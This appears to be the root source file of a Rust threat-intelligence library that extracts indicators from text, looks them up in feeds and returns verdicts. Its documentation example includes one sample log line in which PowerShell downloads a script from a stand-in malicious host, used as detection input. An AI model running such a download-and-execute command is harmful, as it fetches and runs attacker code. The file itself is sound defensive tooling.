//! Indicators in text and tables, feeds of known ones, and verdicts.
//!
//! # Brief overview
//!
//! An [`Indicator`] is an address, name, URL or digest, normalised. [`extract`] finds them in text,
//! defanged or not, also inside base64; [`extract_batches`] in tables. A [`Feed`] lists known
//! indicators with an [`Opinion`]; what cannot be read of it is a diagnostic. A [`Lookup`] asks a set
//! of feeds and gives one [`Judgement`] an indicator: a [`State`], a confidence, and the evidence in
//! sentences. States are never merged: *not found* is not *harmless*.
//!
//! ```
//! use chrono::{TimeZone, Utc};
//! use huntbook_intel::{Feed, Lookup, State, extract};
//!
//! let log = "powershell DownloadString('https://cdn.evil.example.net/a.ps1') from 10.1.2.3";
//! let indicators: Vec<_> = extract(log).into_iter().map(|found| found.indicator).collect();
//!
//! let (feed, _) = Feed::from_csv("feed.csv", "value,verdict,confidence\nevil.example.net,malicious,90\n10.9.9.9,suspicious,40\n")?;
//! let now = Utc.with_ymd_and_hms(2026, 11, 20, 0, 0, 0).unwrap();
//! let judged = Lookup::new(vec![feed], now).ask(&indicators);
//! assert_eq!(judged[0].state, State::Malicious);
//! assert_eq!(judged[1].state, State::NotFound);
//! # Ok::<(), huntbook_intel::IntelError>(())
//! ```

mod error;
mod feeds;
mod indicators;
mod lookup;
mod verdicts;

pub use error::IntelError;
pub use feeds::{CODES, Feed, Listed, Listing, Opinion};
pub use indicators::{Found, Indicator, IndicatorKind, Located, extract, extract_batches};
pub use lookup::{Answer, ColumnMatches, Lookup, MatchedIndicator};
pub use verdicts::{Judgement, Match, Relation, SourceAnswer, State};
